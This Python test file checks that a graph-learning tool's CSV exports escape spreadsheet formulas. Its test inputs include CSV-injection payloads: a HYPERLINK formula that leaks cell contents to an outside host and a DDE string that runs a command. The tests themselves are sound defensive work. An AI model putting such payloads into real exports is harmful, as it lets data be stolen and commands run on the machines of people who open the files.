"""No export is a formula to a spreadsheet, whatever people name their graphs, classes and runs."""

import csv
import dataclasses
import io
import json
import shutil
import subprocess

import pytest
from interruption import RUN

from pgcn.cli import main
from pgcn.execution.execute import execute
from pgcn.execution.spec import RunSpec
from pgcn.methods.pgcn import growth_preset
from pgcn.store import Store
from pgcn.studies.difficulty.results import Outcome, outcomes_as_csv
from pgcn.tables import FORMULA, as_csv, csv_cell
from pgcn.views.exports import events_as_csv
from pgcn.web import EMBEDDING, script

FORMULAS = ['=HYPERLINK("http://host/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1"]


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def is_formula(cell):
    return cell.startswith(FORMULA)


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_be_a_formula_is_text(text):
    ((name, cell),) = rows_of(as_csv([text], [{text: text}]))[0].items()
    assert name == cell == f"'{text}"


def test_numbers_and_other_text_stay_as_they_are():
    for value in (-1, -0.5, float("-inf"), True, None, "", "a=b", "5-5", 'Ünïcödé, "quoted"', "'=1"):
        assert csv_cell(value) is value
    assert rows_of(as_csv(["a", "b"], [{"a": -0.5}])) == [{"a": "-0.5", "b": ""}]


def test_exports_of_a_graph_whose_names_are_formulas_have_none(small_graph, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("PGCN_STORE", f"sqlite:///{tmp_path / 'runs.db'}")
    graph = dataclasses.replace(small_graph, class_names=tuple(FORMULAS[:3]))
    store = Store()
    spec = RunSpec(
        method="pgcn",
        config=growth_preset(epochs=5, max_width=5, max_layers=1),
        source=store.add_graph(graph, name=FORMULAS[0]),
    )
    execute([spec], store, ids=[RUN]).finish()
    (row, *_) = rows_of(events_as_csv(store.events(RUN)))
    assert row["dataset"] == f"'{FORMULAS[0]}" and not any(map(is_formula, row.values()))
    store.close()
    file = tmp_path / "nodes.csv"
    assert main(["embed", RUN, "--method", "pca", "--out", str(file)]) == 0
    rows = rows_of(file.read_text())
    assert {row["class"] for row in rows} == {f"'{text}" for text in FORMULAS[:3]}
    assert not any(is_formula(row[name]) for row in rows for name in row if name not in ("x", "y"))


def test_outcomes_of_a_study_have_no_formula():
    place = {"dataset": FORMULAS[1], "dims": 10, "rate": 50.0, "experiment": 0, "nodes": 100}
    figures = {"parameters": 7, "seconds": 1.0, "labelled_accuracy": 1.0, "val_accuracy": 0.5, "test_accuracy": 0.5}
    outcome = Outcome(**place, method="gcn", run=RUN, status="finished", topology=(16,), **figures)
    assert rows_of(outcomes_as_csv([outcome]))[0]["dataset"] == f"'{FORMULAS[1]}"


@pytest.mark.skipif(not shutil.which("node"), reason="needs Node.js")
def test_the_selection_saved_in_a_browser_has_the_same_cells():
    texts = [*FORMULAS, 'a "b", c', "5-5", ""]
    code = script(("embedding/csv.js",)) + f"console.log(JSON.stringify({json.dumps(texts)}.map(csvCell)))"
    printed = subprocess.check_output(["node", "--input-type=module", "-e", code], text=True)
    (cells,) = csv.reader(io.StringIO(",".join(json.loads(printed)), newline=""))
    assert cells == list(map(csv_cell, texts)) and "embedding/csv.js" in EMBEDDING
